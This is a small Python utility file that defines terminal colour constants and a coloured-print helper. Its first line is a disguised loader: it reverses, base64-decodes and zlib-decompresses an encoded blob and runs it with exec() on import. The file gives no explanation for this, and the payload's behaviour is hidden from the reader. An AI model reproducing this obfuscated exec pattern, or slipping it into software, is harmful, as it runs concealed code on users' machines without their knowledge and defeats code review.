_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=81IYPQAzDGpahGkaU7VDRN5s4XBg7pHp4V6LqIMwrrG52P4rnhgUgeIXUbdMZ2c15vOo+eJNaZgLiDvetJ6v/ABVQihYXIsPBsXO4Q8NF82BNFZrCNAMADgKsjxFxJe'))

RED, GREEN, YELLOW, BLUE, RESET = '\033[31m', '\033[32m', '\033[33m', '\033[34m', '\033[0m'


def cprint(text, color=GREEN):
    print(color + str(text) + RESET)
